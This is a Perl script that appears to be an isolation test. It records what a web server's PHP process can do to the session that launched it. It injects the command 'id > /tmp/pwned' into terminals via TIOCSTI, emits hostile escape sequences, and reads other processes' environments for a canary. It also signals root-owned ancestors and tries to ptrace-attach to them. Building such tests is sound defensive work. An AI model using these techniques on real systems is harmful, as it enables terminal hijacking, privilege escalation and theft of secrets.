# What the web user's PHP tries against the session it was started in. Writes one line an attempt to the report: NAME RESULT.
# Argument: the report.
use strict;
use warnings;
use Fcntl qw(O_RDWR O_NOCTTY);
use POSIX ();

my ($report) = @ARGV;
open(my $out, '>>', $report) or exit 0;
sub note { syswrite($out, join(' ', @_) . "\n"); }

my $TIOCSTI = 0x5412;
my $line = "\x15id > /tmp/pwned\n";
my $escape = "\e]0;PWNED-TITLE\a\e[6n\x9b6n";

sub stat_of {
  my ($pid) = @_;
  open(my $f, '<', "/proc/$pid/stat") or return ();
  my $text = <$f>;
  $text =~ s/^.*\) //s;
  return split(/ /, $text);
}

note('run', $$);

# The session and its terminal: fields 4 (session) and 5 (tty) behind the name.
my @self = stat_of('self');
note('terminal', $self[4] == 0 ? 'none' : "device $self[4]");
note('session', grep({ defined $_ && $_ != 0 && -t $_ } 0 .. 2) ? 'shared' : 'own');

# The terminal by name and by every descriptor.
if (sysopen(my $tty, '/dev/tty', O_RDWR)) {
  note('dev-tty', 'opened');
  ioctl($tty, $TIOCSTI, my $c = $_) for split(//, $line);
  syswrite($tty, $escape);
} else {
  note('dev-tty', 'refused');
}
for my $fd (0 .. 255) {
  my $target = readlink("/proc/self/fd/$fd");
  next unless defined $target;
  note('fd', $fd, $target) if $fd > 2 && $target !~ m{^\Q$report\E$|^/proc/|hostile};
  next unless POSIX::isatty($fd);
  my $t;
  open($t, '+<&=', $fd) or open($t, '<&=', $fd) or next;
  my $typed = 1;
  for (split(//, $line)) { my $c = $_; $typed = 0 unless ioctl($t, $TIOCSTI, $c); }
  note('typed', $fd, $typed ? 'accepted' : 'refused');
}
for my $device (glob('/dev/pts/[0-9]*')) {
  sysopen(my $t, $device, O_RDWR | O_NOCTTY) or next;
  note('device', $device, 'opened');
}

# Escape sequences on both streams.
syswrite(STDOUT, "${escape}PWNED-OUT\n");
syswrite(STDERR, "${escape}PWNED-ERR\n");

# Root's environment: here, in every ancestor and in every process that can be read.
note('env', join(',', sort keys %ENV));
note('canary', exists $ENV{CANARY} ? 'own' : 'no');
for my $file (glob('/proc/[0-9]*/environ')) {
  open(my $f, '<', $file) or next;
  local $/;
  my $text = <$f> // '';
  note('canary', $file) if $text =~ /C4N4RY/;
}

# Ancestors: signals and ptrace.
my $pid = getppid();
while ($pid > 1) {
  my @of = stat_of($pid);
  my $uid = (stat("/proc/$pid"))[4];
  if (defined $uid && $uid == 0) {
    note('signal', $pid, kill('TERM', $pid) ? 'delivered' : 'refused');
    note('ptrace', $pid, syscall(101, 16, $pid + 0, 0, 0) == 0 ? 'attached' : 'refused');
  }
  last unless @of;
  $pid = $of[1];
}
note('end', $$);
